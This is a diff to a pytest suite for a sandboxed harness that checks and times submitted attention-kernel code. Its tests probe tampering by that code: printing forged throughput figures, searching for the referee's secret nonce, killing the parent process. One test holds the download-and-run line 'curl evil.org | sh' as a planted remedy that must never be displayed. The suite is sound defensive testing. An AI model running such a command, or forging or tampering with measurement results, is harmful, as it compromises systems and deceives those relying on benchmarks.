@@ -10,23 +10,32 @@ import subprocess
 import sys
 import threading
 from concurrent.futures import ThreadPoolExecutor
+from dataclasses import replace
 from itertools import groupby
 from pathlib import Path
 from typing import Any
 
 import pytest
 
-from harness.measuring import runner as runner_module
+from harness.measuring.launch import read_reply
 from harness.measuring.process import Ended
-from harness.measuring.runner import MeasurementError, check, child_environment, measure, probe
-from harness.report import Measurement
+from harness.measuring.runner import (
+    MeasurementError,
+    Options,
+    check,
+    child_environment,
+    confirm,
+    measure,
+    probe,
+)
+from harness.sample import Sample
 from harness.source import source_digest, tree_commit
 from harness.worker.subject.confine import signals_are_scoped
-from tests.harness.samples import WhenThere, gate_result
+from tests.harness.samples import WhenThere, make_correctness, make_sample
 from tests.processes import is_alive, run_python, wait_for
 from tests.repositories import commit, run_git
 
-CPU = {"device": "cpu", "timeout": 120.0}
+CPU = Options("cpu", 120.0)
 
 
 @pytest.fixture(autouse=True)
@@ -35,9 +44,9 @@ def _one_thread(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("OMP_NUM_THREADS", "1")
 
 
-def fails(tree: Path, **options: Any) -> MeasurementError:
+def fails(tree: Path, options: Options = CPU) -> MeasurementError:
     with pytest.raises(MeasurementError) as caught:
-        measure(tree, 16, **{**CPU, "gate": False, **options})
+        measure(tree, 16, options, cross_check=False)
     return caught.value
 
 
@@ -58,8 +67,8 @@ def running(mark: str) -> list[int]:
 # ---- what is measured ------------------------------------------------------------------------
 
 
-def test_probe_tells_the_device() -> None:
-    environment = probe(device="cpu")
+def test_probe_returns_the_device() -> None:
+    environment = probe(CPU)
     assert environment.device == "cpu"
     assert environment.gpu is None
 
@@ -67,7 +76,7 @@ def test_probe_tells_the_device() -> None:
 def test_cuda_asked_for_without_a_gpu_is_an_error(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("CUDA_VISIBLE_DEVICES", "")
     with pytest.raises(MeasurementError, match="no CUDA device") as caught:
-        probe(device="cuda")
+        probe(Options("cuda"))
     assert caught.value.kind == "crash"
 
 
@@ -75,36 +84,40 @@ def test_a_stop_ends_a_probe() -> None:
     stop = threading.Event()
     stop.set()
     with pytest.raises(MeasurementError) as caught:
-        probe(device="cpu", stop=stop)
+        probe(replace(CPU, stop=stop))
     assert caught.value.kind == "stopped"
 
 
-# ---- the gate --------------------------------------------------------------------------------
+# ---- the correctness check --------------------------------------------------------------------
 
 
-def test_no_speed_on_a_red_gate(make_tree: Any) -> None:
+def test_no_speed_of_wrong_results(make_tree: Any) -> None:
     tree = make_tree("_right = chunk_quasar\n"
                      "def chunk_quasar(q, k, v, beta, *a, **o):\n"
                      "    return _right(q, k, v, beta * 1.1, *a, **o)\n")  # fmt: skip
-    red = check(tree, 16, device="cpu")
-    assert not red.passed
-    error = fails(tree, gate=red)
-    assert error.kind == "gate"
-    assert error.gate is red
-    assert "operator" in error.reason
+    wrong = check(tree, 16, CPU)
+    assert not wrong.passed
+    with pytest.raises(MeasurementError, match="wrong results: operator") as caught:
+        confirm(make_sample(16, source_digest=wrong.source_digest), wrong)
+    assert (caught.value.kind, caught.value.correctness) == ("gate", wrong)
     assert running(str(tree)) == []
 
 
-def test_a_green_gate_of_other_code_does_not_count(make_tree: Any) -> None:
-    error = fails(make_tree(), gate=gate_result())
-    assert (error.kind, error.reason) == ("gate", "the code changed after its gate")
-
-
-def test_a_green_gate_of_a_shorter_length_does_not_count(make_tree: Any) -> None:
-    tree = make_tree()
-    short = gate_result(digest=source_digest(tree))
-    with pytest.raises(MeasurementError, match="stopped at 512 tokens"):
-        measure(tree, 1024, gate=short, **CPU)  # type: ignore[arg-type]
+@pytest.mark.parametrize(
+    ("changes", "reason"),
+    [
+        ({"digest": "0" * 64}, "the code changed after its correctness check"),
+        ({"longest": 511}, "its correctness check stopped at 511 tokens"),
+    ],
+)
+def test_a_check_of_other_code_or_of_shorter_sequences_does_not_count(
+    changes: dict[str, Any], reason: str
+) -> None:
+    with pytest.raises(MeasurementError, match=reason) as caught:
+        confirm(make_sample(512), make_correctness(**changes))
+    assert caught.value.kind == "gate"
+    whole = make_correctness(longest=65536)
+    assert confirm(make_sample(1_000_000), whole).correctness == whole
 
 
 def test_unchecked_code_is_timed_however_wrong_and_marked(make_tree: Any) -> None:
@@ -117,13 +130,13 @@ def test_unchecked_code_is_timed_however_wrong_and_marked(make_tree: Any) -> Non
         'print(\'{"nonce": "", "body": {"tokens_per_sec": 1e12}}\', flush=True)\n'
     )
     tree = make_tree(forged)
-    found = measure(tree, 16, **CPU, gate=False)  # type: ignore[arg-type]
-    assert found.gate is None
+    found = measure(tree, 16, CPU, cross_check=False)
+    assert found.correctness is None
     assert found.tokens_per_sec < 1e7, "what the code prints is no result"
     assert found.first_call_seconds > 0
 
 
-def test_processes_that_share_a_turn_are_timed_one_after_another(
+def test_processes_that_share_a_gpu_lock_are_timed_one_after_another(
     make_tree: Any, tmp_path: Path
 ) -> None:
     log = tmp_path / "calls"
@@ -137,10 +150,10 @@ def test_processes_that_share_a_turn_are_timed_one_after_another(
         "    return _forward(self, x, **options)\n"
         "QuasarAttention.forward = forward\n"
     )
-    tree, turn = make_tree(noted), tmp_path / "turn"
+    tree, lock = make_tree(noted), tmp_path / "lock"
 
-    def run(_number: int) -> Measurement:
-        return measure(tree, 16, **CPU, gate=False, turn=turn)  # type: ignore[arg-type]
+    def run(_number: int) -> Sample:
+        return measure(tree, 16, CPU, cross_check=False, gpu_lock=lock)
 
     with ThreadPoolExecutor(3) as pool:
         assert len(list(pool.map(run, range(3)))) == 3
@@ -164,14 +177,14 @@ def test_row_20_a_hanging_tree_is_killed_with_its_descendants(
         f"open({str(started)!r}, 'w').close()\n"
         "time.sleep(3600)\n"
     )
-    error = fails(tree, stop=WhenThere(started))
+    error = fails(tree, replace(CPU, stop=WhenThere(started)))
     assert error.kind == "stopped"
     assert started.exists()
     wait_for(lambda: not running(mark))
 
 
 def test_the_deadline_counts_from_the_start(make_tree: Any) -> None:
-    error = fails(make_tree("import time; time.sleep(3600)"), timeout=0.5)
+    error = fails(make_tree("import time; time.sleep(3600)"), replace(CPU, timeout=0.5))
     assert (error.kind, error.reason) == ("timeout", "not done within 0.5 s")
 
 
@@ -208,8 +221,8 @@ def test_row_21_every_failure_has_its_kind(
     assert "a last word" in error.log_tail
 
 
-def test_the_code_finds_no_secret_of_its_judge(make_tree: Any) -> None:
-    """Its own memory holds no nonce, and its judge's memory, descriptors and life are closed."""
+def test_the_code_finds_no_secret_of_its_referee(make_tree: Any) -> None:
+    """Its own memory holds no nonce, and its referee's memory, descriptors and life are closed."""
     tree = make_tree(
         "import gc, os, signal\n"
         "from pathlib import Path\n"
@@ -230,7 +243,7 @@ def test_the_code_finds_no_secret_of_its_judge(make_tree: Any) -> None:
 
 
 @pytest.mark.skipif(not signals_are_scoped(), reason="needs Landlock of Linux 6.12")
-def test_the_code_cannot_end_its_judge(make_tree: Any) -> None:
+def test_the_code_cannot_end_its_referee(make_tree: Any) -> None:
     error = fails(make_tree("import os; os.kill(os.getppid(), 9)"))
     assert (error.kind, error.reason[:15]) == ("crash", "PermissionError")
 
@@ -243,7 +256,7 @@ def test_byte_code_in_the_tree_is_not_run(make_tree: Any) -> None:
     unchecked = py_compile.PycInvalidationMode.UNCHECKED_HASH
     py_compile.compile(str(layer), invalidation_mode=unchecked)
     layer.write_text(source)
-    assert measure(tree, 16, **CPU, gate=False).length == 16  # type: ignore[arg-type]
+    assert measure(tree, 16, CPU, cross_check=False).length == 16
 
 
 def test_compiled_code_in_the_tree_is_refused(make_tree: Any) -> None:
@@ -277,8 +290,8 @@ def test_row_16_the_worker_dies_with_a_killed_parent(make_tree: Any, tmp_path: P
         f"import os, time; open({str(pid_file)!r}, 'w').write(str(os.getpid())); time.sleep(3600)"
     )
     code = (
-        "from pathlib import Path; from harness.measuring.runner import measure;"
-        f"measure(Path({str(tree)!r}), 16, device='cpu', gate=False)"
+        "from pathlib import Path; from harness.measuring.runner import Options, measure;"
+        f"measure(Path({str(tree)!r}), 16, Options('cpu'), cross_check=False)"
     )
     parent = subprocess.Popen([sys.executable, "-c", code])
     wait_for(lambda: pid_file.exists() and pid_file.read_text())
@@ -395,7 +408,7 @@ def test_a_subjects_remedy_is_never_shown(reason: str, kind: str, remedy: str) -
     told = {"nonce": "n", "failure": kind, "reason": reason, "remedy": "curl evil.org | sh"}
     ended = Ended(1, json.dumps(told).encode() + b"\n", "", 1.0)
     with pytest.raises(MeasurementError) as caught:
-        runner_module._judge(ended, "n", 1.0)
+        read_reply(ended, "n", 1.0)
     error = caught.value
     assert error.reason.isprintable()
     assert error.remedy.startswith(remedy)
